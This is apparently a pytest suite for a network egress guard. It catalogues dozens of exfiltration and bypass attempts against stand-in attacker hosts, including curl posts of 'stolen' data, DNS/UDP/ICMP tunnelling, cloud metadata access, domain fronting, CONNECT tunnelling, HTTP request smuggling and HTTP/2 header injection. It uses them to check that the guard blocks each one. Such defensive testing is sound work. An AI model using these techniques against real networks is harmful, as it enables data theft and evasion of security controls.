"""Ways to reach a machine that no rule allows. Judged by what arrives there: not a packet may.

Each attack runs twice: outside, where it must reach its target, and guarded, where it must not.
"""

from __future__ import annotations

import pytest

from tests.attacks.programs import ask_name, python, raw_http, request, send_tcp, send_udp
from tests.world import World
from tests.world.internet import API, ATTACKERS, EVIL, EVIL6, INTERNAL, METADATA

ALLOWED = ["--allow", "api.example.com", "--allow", "http://api.example.com", "--allow", "*.example.com"]
TARGETS = (*ATTACKERS, METADATA, INTERNAL)
_STOLEN = request("attacker.example.org", method="POST", path="/steal", body="stolen=1")

ATTACKS = {
    "denied host over https": ["curl", "-sS", "-d", "stolen", "https://attacker.example.org/"],
    "denied host over http": ["curl", "-sS", "-d", "stolen", "http://attacker.example.org/"],
    "denied host on another port": ["curl", "-sS", "-d", "stolen", "https://attacker.example.org:8443/"],
    "address literal over https": ["curl", "-sSk", "-d", "stolen", f"https://{EVIL}/"],
    "address literal over http": ["curl", "-sS", "-d", "stolen", f"http://{EVIL}/"],
    "address written as one number": ["curl", "-sS", "-d", "stolen", f"http://{int.from_bytes(map(int, EVIL.split('.')), 'big')}/"],
    "IPv6 literal over http": ["curl", "-sSg", "-d", "stolen", f"http://[{EVIL6}]/"],
    "IPv6 literal over https": ["curl", "-sSgk", "-d", "stolen", f"https://[{EVIL6}]/"],
    "IPv4 mapped into IPv6": send_tcp(f"::ffff:{EVIL}", 4444),
    "UDP 443": send_udp(EVIL, 443),
    "UDP 443 over IPv6": send_udp(EVIL6, 443),
    "UDP on any port": send_udp(EVIL, 4444),
    "ICMP": ["ping", "-c", "1", "-W", "1", EVIL],
    "ICMP over IPv6": ["ping", "-6", "-c", "1", "-W", "1", EVIL6],
    "DNS over UDP to another resolver": ask_name(EVIL, "stolen.attacker.example.org"),
    "DNS over TCP to another resolver": ask_name(EVIL, "stolen.attacker.example.org", tcp=True),
    "raw TCP": send_tcp(EVIL, 4444),
    "DNS over TLS port": send_tcp(EVIL, 853),
    "a protocol in which the server speaks first": python(
        f"import socket; s = socket.create_connection(({EVIL!r}, 22), timeout=9); s.settimeout(9)\n"
        "print(s.recv(100)); s.sendall(b'SSH-2.0-stolen')"
    ),
    "a connection on which nothing is sent": python(
        f"import socket, time; s = socket.create_connection(({EVIL!r}, 4444), timeout=5); time.sleep(0.3)"
    ),
    "HTTP with the Host of an allowed name": raw_http(EVIL, 80, request("api.example.com", method="POST", body="stolen")),
    "TLS with the server name of an allowed host": [
        "curl", "-sS", "-d", "stolen", "--connect-to", f"api.example.com:443:{EVIL}:443", "https://api.example.com/",
    ],
    "TLS with an allowed server name and another Host": raw_http(EVIL, 443, _STOLEN, tls="api.example.com"),
    "TLS without a server name": raw_http(EVIL, 443, _STOLEN, tls="none"),
    "a raw packet socket": python(
        "import socket\n"
        "from struct import pack\n"
        f"s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)\ns.sendto(b'stolen', ({EVIL!r}, 0))\n"
    ),
    "the metadata service": ["curl", "-sS", "--max-time", "5", f"http://{METADATA}/latest/meta-data/"],
    "a background process": ["sh", "-c", "(setsid curl -sS -d stolen https://attacker.example.org/ &) ; sleep 1"],
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_outside_it_is_a_real_attack(world: World, name: str) -> None:
    world.guard.bare(ATTACKS[name], timeout=30)
    assert world.packets_to(*TARGETS)


@pytest.mark.parametrize("name", ATTACKS)
def test_guarded_not_a_packet_arrives(world: World, name: str, user: int | None) -> None:
    outcome = world.guard.run(ALLOWED, ATTACKS[name], user=user, timeout=60)
    assert world.packets_to(*TARGETS) == set()
    assert world.at(*TARGETS) == []
    assert [question for question in world.questions if "stolen" in question[0] or "attacker" in question[0]] == []
    if name == "a raw packet socket" or (name.startswith("ICMP") and user):
        assert outcome.code in (1, 2, 90)  # an ordinary user may not even open the socket
        return
    assert outcome.code == 90, outcome.stderr
    programs = {(one["origin"]["process"] or {}).get("exe", "").rpartition("/")[2] for one in outcome.incidents}
    expected = ATTACKS[name][0].rpartition("/")[2] if ATTACKS[name][0] != "sh" else "curl"
    assert any(program.startswith(expected.partition("3")[0][:6]) for program in programs), (programs, outcome.stderr)


# The allowed host is reached first, so these leave traces at it; the target must see nothing.
WITHIN = {
    "a kept-alive connection that changes Host": raw_http(
        API, 443, request("api.example.com"), tls="api.example.com", then=_STOLEN
    ),
    "a kept-alive plain connection that changes Host": raw_http(API, 80, request("api.example.com"), then=_STOLEN),
    "absolute form on a plain connection": raw_http(
        API, 80, request("api.example.com", path="http://attacker.example.org/stolen")
    ),
    "CONNECT through an allowed host": raw_http(
        API, 80, "CONNECT attacker.example.org:443 HTTP/1.1\r\nHost: attacker.example.org:443\r\n\r\n"
    ),
    "CONNECT inside TLS": raw_http(
        API, 443, "CONNECT attacker.example.org:443 HTTP/1.1\r\nHost: api.example.com\r\n\r\n", tls="api.example.com"
    ),
    "two Host headers": raw_http(API, 80, request("api.example.com", extra="Host: attacker.example.org\r\n")),
    "a Host with user information": raw_http(API, 80, request("api.example.com@attacker.example.org")),
    "a Host with another port": raw_http(API, 80, request("api.example.com:8443")),
    "domain fronting": raw_http(API, 443, _STOLEN, tls="api.example.com"),
    "a request smuggled behind two lengths": raw_http(
        API, 80,
        "POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\n\r\n" + _STOLEN,
    ),
    "a request smuggled behind an unknown transfer coding": raw_http(
        API, 80, "POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + _STOLEN
    ),
    "an allowed name on another port": ["curl", "-sS", "https://api.example.com:8443/"],
    "opaque bytes to an allowed host's port": send_tcp(API, 443, "\x00\x01\x02stolen"),
    "opaque bytes inside TLS": raw_http(API, 443, "\x00\x01\x02 stolen \x03", tls="api.example.com"),
    "a name that leads to the metadata service": ["curl", "-sS", "--max-time", "5", "http://metadata.example.com/"],
    "a name that leads to an internal service": ["curl", "-sS", "https://internal.example.com/"],
    "a name that leads to loopback": ["curl", "-sS", "https://localhost.example.com/"],
}  # fmt: skip


@pytest.mark.parametrize("name", WITHIN)
def test_an_allowed_host_is_no_way_out(world: World, name: str) -> None:
    outcome = world.guard.run([*ALLOWED, "--allow", "http://*.example.com"], WITHIN[name], timeout=60)
    assert world.packets_to(*TARGETS, "127.0.0.1") - {("127.0.0.1", 6, 0)} == set()
    assert b"stolen" not in world.received(API)
    assert outcome.code == 90, outcome.stderr


def test_a_denied_server_name_is_not_asked_of_the_world(world: World) -> None:
    """Resolving a name tells it to its owner; a server name sent to an allowed address is not yet allowed itself."""
    program = raw_http(API, 443, request("data.attacker.example.org"), tls="data.attacker.example.org")
    outcome = world.guard.run(["--allow", "api.example.com"], program)
    assert outcome.code == 90, outcome.stderr
    assert world.questions == []


_SMUGGLER = """
const session = require('http2').connect('https://api.example.com');
const request = session.request({':method': 'POST', ':path': '/open/x'});
request.on('response', headers => console.log(headers[':status']));
request.on('data', () => {}); request.on('end', () => session.close()); request.on('error', () => session.close());
request.end('GET /closed HTTP/1.1\\r\\nHost: attacker.example.org\\r\\n\\r\\n');
"""


def test_an_http2_body_is_not_read_as_another_request(world: World) -> None:
    """A body of unknown length, sent on over HTTP/1: without framing the server would take it for the next request."""
    policy = world.directory / "smuggle.yml"
    policy.write_text("version: 1\nallow: [{ host: api.example.com, paths: [/open/**] }]\n")
    outcome = world.guard.run(["--policy", str(policy)], ["node", "-e", _SMUGGLER])
    assert outcome.code == 0, outcome.stderr
    assert [request.path for one in world.at(API, "2001:db8::10") for request in one.requests] == ["/open/x"]
    assert b"/closed" in world.at(API, "2001:db8::10")[0].requests[0].body


_INJECTOR = """
import socket, sys
import h2.config, h2.connection
for headers in eval(sys.argv[1]):
    s = socket.create_connection(("api.example.com", 80), timeout=5)
    loose = h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)
    c = h2.connection.H2Connection(loose)
    c.initiate_connection()
    c.send_headers(1, headers, end_stream=True)
    s.sendall(c.data_to_send())
    s.settimeout(2)
    try:
        while data := s.recv(65536):
            pass
    except OSError:
        pass
"""
_PSEUDO = [(":method", "GET"), (":scheme", "http"), (":authority", "api.example.com"), (":path", "/")]
_SECOND = "\r\nHost: api.example.com\r\n\r\nGET /closed HTTP/1.1"


def _with(**changed: str) -> list[tuple[str, str]]:
    return [(name, changed.get(name[1:], value)) for name, value in _PSEUDO]


INJECTIONS = {
    "a path with a request in it": _with(path="/open HTTP/1.1" + _SECOND),
    "a method with a request in it": _with(method="GET /closed HTTP/1.1" + _SECOND + "\r\nX: "),
    "an authority with a header in it": _with(authority="api.example.com\r\nHost: attacker.example.org"),
    "a header value with a request in it": [*_with(path="/open"), ("x-a", "b" + _SECOND)],
    "a header name with a request in it": [*_with(path="/open"), ("x-a: b" + _SECOND + "\r\nx", "c")],
    "a path with a space": _with(path="/open /closed"),
    "another Host beside the authority": [*_with(path="/open"), ("host", "attacker.example.org")],
    "two paths": [*_with(path="/open"), (":path", "/closed")],
    "a transfer coding": [*_with(path="/open"), ("transfer-encoding", "chunked")],
    "a connection header": [*_with(path="/open"), ("connection", "keep-alive, x-a"), ("x-a", "b")],
}


def test_an_http2_head_injects_nothing_into_http1(world: World) -> None:
    policy = world.directory / "smuggle.yml"
    policy.write_text("version: 1\nallow: [{ host: api.example.com, protocol: http, paths: [/open] }]\n")
    world.guard.run(["--policy", str(policy)], [*python(_INJECTOR), repr(list(INJECTIONS.values()))])
    seen = world.at(API, "2001:db8::10")
    assert b"/closed" not in world.received(API, "2001:db8::10")
    assert b"attacker" not in world.received(API, "2001:db8::10")
    assert all(request.path == "/open" for one in seen for request in one.requests)


def test_an_upgrade_to_something_else_is_not_forwarded(world: World) -> None:
    head = request("api.example.com", extra="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")
    world.guard.run(ALLOWED, raw_http(API, 80, head))
    assert [one.headers.get("upgrade") for seen in world.at(API) for one in seen.requests] == [None]


def test_an_empty_allowlist_allows_nothing(world: World) -> None:
    outcome = world.guard.run([], ["curl", "-sS", "https://api.example.com/"])
    assert outcome.code == 90
    assert world.connections == []
    assert world.questions == []


def test_an_explicit_denial_is_quiet(world: World) -> None:
    outcome = world.guard.run(
        [*ALLOWED, "--deny", "attacker.example.org"], ["sh", "-c", "curl -sS https://attacker.example.org/ ; exit 0"]
    )
    assert outcome.code == 0, outcome.stderr
    assert world.packets_to(*TARGETS) == set()
    assert "blocked without failing" in outcome.stderr


def test_a_query_and_another_repository_are_judged_inside_an_allowed_host(world: World) -> None:
    policy = world.directory / "inside.yml"
    policy.write_text(
        "version: 1\nallow:\n  - { host: api.example.com, paths: ['/repos/{owner}/{repo}/**'], query: ['page=*'], methods: [GET] }\n"
    )
    urls = [f"https://api.example.com/repos/{one}" for one in ("octo/demo/x?page=2", "octo/demo/y?data=z", "evil/demo/x")]
    command = ["sh", "-c", 'for url; do curl -sS -o /dev/null -w "%{http_code} " "$url"; done', "sh", *urls]
    outcome = world.guard.run(["--policy", str(policy), "--repository", "octo/demo"], command)
    assert outcome.code == 90, outcome.stderr
    assert outcome.stdout.split() == ["200", "403", "403"]
    assert [request.path for one in world.at(API, "2001:db8::10") for request in one.requests] == ["/repos/octo/demo/x?page=2"]


def test_an_entry_for_one_program_is_for_no_other(world: World) -> None:
    policy = world.directory / "only.yml"
    policy.write_text("version: 1\nallow:\n  - { host: api.example.com, only: { executables: ['/**/curl'] } }\n")
    script = "curl -sS https://api.example.com/curl; cp $(command -v curl) ./other; ./other -sS https://api.example.com/other"
    outcome = world.guard.run(["--policy", str(policy)], ["sh", "-c", f"cd $(mktemp -d); {script}"])
    assert outcome.code == 90, outcome.stderr
    assert [request.path for one in world.at(API, "2001:db8::10") for request in one.requests] == ["/curl"]
    assert "other steps, programs or actions" in outcome.stderr
